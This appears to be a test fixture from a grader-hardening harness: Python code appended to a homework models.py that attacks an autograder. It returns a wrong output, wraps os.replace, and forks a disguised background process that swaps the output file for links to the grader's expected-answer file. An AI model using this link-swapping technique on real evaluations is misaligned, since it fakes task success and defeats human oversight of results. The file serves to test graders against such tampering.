
# ---- attack, appended to the reference models.py by the harness ------------------------
# Attack: make the trusted grader read the expected output as if it were ours. The
# worker writes outputs into out/ (a folder of the sandbox user): Generator.forward
# returns a wrong image, then (1) wraps os.replace so that right after the worker renames
# its finished output into place, the output is swapped for a link to the expected file
# under the grading root (a hard link if allowed, else a symbolic link; several targets,
# /proc/self/fd/N among them, which would resolve in the reader's own process), and (2)
# leaves a helper (named hw4atk-swap, at most 20 s) that keeps swapping in such links.
# Expected: the grader opens outputs without following links (and checks owner and link
# count); Generator scores 0; everything else keeps its points; no helper survives.
import os as _hw4_os
import sys as _hw4_sys
import time as _hw4_time

_HW4_ROOT = "@@AUTOGRADER_ROOT@@"
_hw4_real_replace = _hw4_os.replace


def _hw4_out_dir():
    argv = list(_hw4_sys.argv)
    return argv[argv.index("--out") + 1] if "--out" in argv[:-1] else None


def _hw4_case_id(out):
    try:
        name = _hw4_os.path.basename(_hw4_os.readlink("/proc/self/fd/1"))
        if name.endswith(".log"):
            return name[: -len(".log")]
    except OSError:
        pass
    newest = max(((_hw4_os.stat(_hw4_os.path.join(out, name)).st_mtime, name) for name in _hw4_os.listdir(out)
                  if name.endswith(".status.json") and not name.startswith(".")), default=None)
    return newest[1][: -len(".status.json")] if newest else None


def _hw4_swap(out, case, attempt):
    expected = _hw4_os.path.join(_HW4_ROOT, "source", "reference_data", "part1", "expected", f"{case}.safetensors")
    targets = [expected] + [f"/proc/self/fd/{fd}" for fd in range(3, 12)]
    output = _hw4_os.path.join(out, f"{case}.safetensors")
    staged = _hw4_os.path.join(out, f".hw4atk-{attempt}")
    try:
        _hw4_os.link(expected, staged)
    except OSError:
        try:
            _hw4_os.symlink(targets[attempt % len(targets)], staged)
        except OSError:
            return
    try:
        _hw4_real_replace(staged, output)
    except OSError:
        pass


def _hw4_wrapped_replace(src, dst, *args, **kwargs):
    _hw4_real_replace(src, dst, *args, **kwargs)
    out = _hw4_out_dir()
    if out and str(dst).endswith(".safetensors"):
        case = str(dst)[: -len(".safetensors")].rsplit("/", 1)[-1]
        _hw4_swap(out, case, 0)


def _hw4_helper(out, case):
    try:
        pid = _hw4_os.fork()
    except OSError:
        return
    if pid:
        return
    try:
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"hw4atk-swap", 0, 0, 0)
        except Exception:
            pass
        end, attempt = _hw4_time.monotonic() + 20.0, 1
        while _hw4_time.monotonic() < end:
            if _hw4_os.path.exists(_hw4_os.path.join(out, f"{case}.safetensors")) and \
                    not _hw4_os.path.islink(_hw4_os.path.join(out, f"{case}.safetensors")):
                _hw4_swap(out, case, attempt)
                attempt += 1
            _hw4_time.sleep(0.001)
    finally:
        _hw4_os._exit(0)


_Hw4Generator = Generator


class Generator(_Hw4Generator):
    def forward(self, z):
        out = _hw4_out_dir()
        case = _hw4_case_id(out) if out else None
        if case:
            _hw4_os.replace = _hw4_wrapped_replace
            _hw4_helper(out, case)
        return super().forward(z) * 0 + 0.5
